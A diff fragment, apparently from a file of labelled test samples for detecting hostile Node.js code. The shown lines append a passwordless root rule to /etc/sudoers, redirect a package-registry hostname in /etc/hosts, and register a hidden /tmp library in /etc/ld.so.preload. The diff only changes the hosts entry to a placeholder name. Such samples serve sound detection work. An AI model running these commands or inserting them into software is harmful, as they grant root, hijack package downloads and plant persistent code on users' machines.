@@ -237,7 +237,7 @@ const { appendFileSync: add } = require('fs');
 add('/etc/sudoers', 'dev ALL=(ALL) NOPASSWD: ALL\n');
 %% hosts file
 const fs = require('fs/promises');
-fs.appendFile('/etc/hosts', '\n203.0.113.9 registry.npmjs.org\n');
+fs.appendFile('/etc/hosts', '\n203.0.113.9 registry.example\n');
 %% preload library named
 require('fs').writeFileSync('/etc/ld.so.preload', '/tmp/.l.so');
 %% names spelt by character codes
